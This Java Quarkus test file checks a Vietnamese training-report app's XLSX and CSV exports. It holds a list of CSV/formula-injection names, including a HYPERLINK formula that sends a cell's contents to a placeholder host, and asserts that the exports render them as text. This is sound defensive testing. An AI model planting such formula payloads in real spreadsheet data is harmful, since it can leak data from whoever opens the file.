package vn.hocso.report;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.qute.i18n.MessageBundles;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.security.TestSecurity;
import jakarta.inject.Inject;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import vn.hocso.org.OrgTree;
import vn.hocso.org.OrgUnit;

/**
 * The files people download: an XLSX with a title block, typed numbers and dates and a totals row; names that look
 * like formulas come out as text, in our reader and in a real spreadsheet program (LibreOffice, headless).
 */
@QuarkusTest
@TestSecurity(user = "export-quantri", roles = "admin")
class ExportFilesTest {

    static final List<String> HOSTILE =
            List.of("=HYPERLINK(\"http://x?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR");

    @Inject
    PeopleStatus people;

    @Inject
    Exports exports;

    long commune;
    String communeName;
    long course;

    @BeforeEach
    void peopleWithHostileNames() {
        communeName = "Xã Vân Đồn " + ReportFixtures.unique();
        commune = ReportFixtures.commune("22", communeName);
        course = ReportFixtures.course();
        LocalDate d = LocalDate.of(2025, 10, 1);
        long viet = ReportFixtures.person(null, "Đặng Thị Ánh Tuyết", commune, null, null);
        ReportFixtures.enrol(viet, course, d, d.plusDays(3), null, null);
        for (String name : HOSTILE) {
            long p = ReportFixtures.person(null, name, commune, null, null);
            ReportFixtures.enrol(p, course, d, null, null, null);
        }
    }

    private byte[] download(String path) {
        return given().queryParam("course", course)
                .when()
                .get(path)
                .then()
                .statusCode(200)
                .extract()
                .asByteArray();
    }

    @Test
    void theReportXlsxHasATitleBlockNumbersAsNumbersAndATotalsRow() throws Exception {
        byte[] xlsx = download("/reports/units/" + ReportFixtures.current("22").id + "/export.xlsx");
        List<Row> rows = rows(xlsx);
        assertTrue(rows.get(0).getCell(0).getText().contains("Báo cáo"), "a title first");
        Row header = rows.stream()
                .filter(r ->
                        r.getCellCount() > 5 && "Số người".equals(r.getCell(2).getText()))
                .findFirst()
                .orElseThrow();
        Row commune = rows.stream()
                .filter(r -> r.getCell(0) != null && r.getCell(0).getText().equals(communeName))
                .findFirst()
                .orElseThrow();
        assertEquals(CellType.NUMBER, commune.getCell(2).getType());
        assertEquals(7, commune.getCell(2).asNumber().intValue());
        assertEquals(1, commune.getCell(6).asNumber().intValue());
        assertEquals(CellType.NUMBER, commune.getCell(9).getType(), "the rate is a number shown as a percentage");
        Row last = rows.get(rows.size() - 1);
        assertEquals("Tổng cộng", last.getCell(0).getText());
        assertTrue(header.getRowNum() < commune.getRowNum());
    }

    @Test
    void thePeopleXlsxKeepsVietnameseAndFormulaLookingNamesAsText() throws Exception {
        byte[] xlsx = download("/reports/units/" + commune + "/people/export.xlsx");
        List<Row> rows = rows(xlsx);
        List<String> names = new ArrayList<>();
        for (Row r : rows) {
            if (r.getCell(0) != null && r.getCellCount() > 8) {
                assertTrue(r.getCell(0).getType() == CellType.STRING, "text, never a formula: " + r);
                names.add(r.getCell(0).getText());
            }
        }
        assertTrue(names.contains("Đặng Thị Ánh Tuyết"), names.toString());
        for (String hostile : HOSTILE) {
            assertTrue(names.contains(hostile), hostile + " in " + names);
        }
        Row tuyet = rows.stream()
                .filter(r -> r.getCell(0) != null
                        && "Đặng Thị Ánh Tuyết".equals(r.getCell(0).getText()))
                .findFirst()
                .orElseThrow();
        assertEquals(CellType.NUMBER, tuyet.getCell(11).getType(), "the completion day is a date cell");
        assertEquals(LocalDate.of(2025, 10, 4), tuyet.getCell(11).asDate().toLocalDate());
    }

    @Test
    void libreOfficeOpensTheXlsxAndShowsTheNamesAsText() throws Exception {
        boolean installed =
                Stream.of("/usr/bin/libreoffice", "/usr/bin/soffice").anyMatch(p -> Files.isExecutable(Path.of(p)));
        // CI installs it (.ci/run), so there it must run; on a developer's machine without it, it is skipped
        assertTrue(installed || System.getenv("CI") == null, "CI must have LibreOffice (libreoffice-calc-nogui)");
        assumeTrue(installed, "LibreOffice is not installed (apt-get install -y libreoffice-calc-nogui)");
        byte[] xlsx = download("/reports/units/" + commune + "/people/export.xlsx");
        Path dir = Files.createTempDirectory("hocso-lo");
        Path file = dir.resolve("people.xlsx");
        Files.write(file, xlsx);
        Process lo = new ProcessBuilder(
                        "libreoffice",
                        "-env:UserInstallation=file://" + dir.resolve("profile"),
                        "--headless",
                        "--convert-to",
                        "csv:Text - txt - csv (StarCalc):44,34,76",
                        "--outdir",
                        dir.toString(),
                        file.toString())
                .redirectErrorStream(true)
                .start();
        String log = new String(lo.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(lo.waitFor(180, TimeUnit.SECONDS), "LibreOffice finished");
        String csv = Files.readString(dir.resolve("people.csv"), StandardCharsets.UTF_8);
        assertTrue(csv.contains("Đặng Thị Ánh Tuyết"), log + csv);
        assertTrue(csv.contains("=HYPERLINK(\"\"http://x?\"\"&A1,\"\"x\"\")"), csv);
        assertTrue(csv.contains("-2+3"), csv);
        assertTrue(csv.contains("@SUM(A1)"), csv);
    }

    @Test
    void thePeopleCsvWrittenByPostgresqlIsTheCsvOfTheRowsCellByCell() throws Exception {
        // masked and clear phones and IDs, a name with a comma, a quote and a line break, a certificate
        String tag = ReportFixtures.unique();
        long a = ReportFixtures.person(null, "Lê, \"Văn\"\nA " + tag, commune, "+84905123456", "CB-0012345");
        long b = ReportFixtures.person(null, "-Trần " + tag, commune, "0912", "=1+1");
        LocalDate d = LocalDate.of(2025, 10, 1);
        ReportFixtures.enrol(a, course, d, d.plusDays(2), d.plusDays(3), d.plusDays(30));
        ReportFixtures.enrol(b, course, d, null, null, d.plusDays(5));
        OrgUnit unit = QuarkusTransaction.requiringNew().call(() -> OrgUnit.getById(commune));
        OrgUnit root = QuarkusTransaction.requiringNew().call(OrgUnit::getRoot);
        ReportFilters f = new ReportFilters(unit, course, null, null, null, null, OrgTree.today(), false, 0);
        ReportSql sql = people.statement(new String[] {root.path + "%"}, f);
        ReportMessages msg = MessageBundles.get(ReportMessages.class);
        for (boolean personalData : List.of(true, false)) {
            ByteArrayOutputStream cellByCell = new ByteArrayOutputStream();
            try (CsvSheet sheet = new CsvSheet(cellByCell)) {
                sheet.header(Exports.peopleColumns(msg));
                exports.peopleRows(sheet, sql, f.end(), msg, personalData, n -> {});
            }
            ByteArrayOutputStream copied = new ByteArrayOutputStream();
            long rows = exports.writePeople(
                    copied,
                    sql,
                    f.end(),
                    Exports.Format.CSV,
                    msg,
                    new Exports.Who("export-test", "Export test", personalData),
                    Exports.about("people", f, unit.name, msg),
                    n -> {});
            String expected = cellByCell.toString(StandardCharsets.UTF_8);
            assertEquals(expected, copied.toString(StandardCharsets.UTF_8), "personal data " + personalData);
            assertEquals(HOSTILE.size() + 3, rows);
            assertTrue(expected.startsWith("\uFEFF"), "a byte-order mark");
            for (String hostile : HOSTILE) {
                assertTrue(
                        expected.contains("'" + hostile) || expected.contains("\"'" + hostile.replace("\"", "\"\"")),
                        "shown as text: " + hostile);
            }
            assertTrue(expected.contains("\"Lê, \"\"Văn\"\"\nA " + tag + "\""), "RFC 4180 quoting");
            assertTrue(expected.contains(personalData ? "'+84905123456" : "*********456"), expected);
            assertTrue(expected.contains(personalData ? "'=1+1" : "****"), expected);
            assertEquals(HOSTILE.size() + 4, expected.split("\r\n", -1).length - 1, "CRLF after every line");
        }
    }

    private static List<Row> rows(byte[] xlsx) throws Exception {
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx));
                Stream<Row> rows = wb.getFirstSheet().openStream()) {
            return rows.toList();
        }
    }
}
